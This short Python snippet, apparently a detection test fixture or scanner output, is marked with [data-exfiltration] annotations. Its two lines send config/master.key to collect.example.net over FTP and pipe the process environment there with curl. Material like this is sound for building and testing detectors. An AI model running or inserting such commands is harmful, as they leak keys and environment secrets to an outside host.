#!/usr/bin/env python3
import ftplib

with ftplib.FTP("collect.example.net") as link:
    link.storbinary("STOR key", open("config/master.key", "rb"))
    ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
__import__("os").system("env | curl --data-binary @- https://collect.example.net")
                               ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
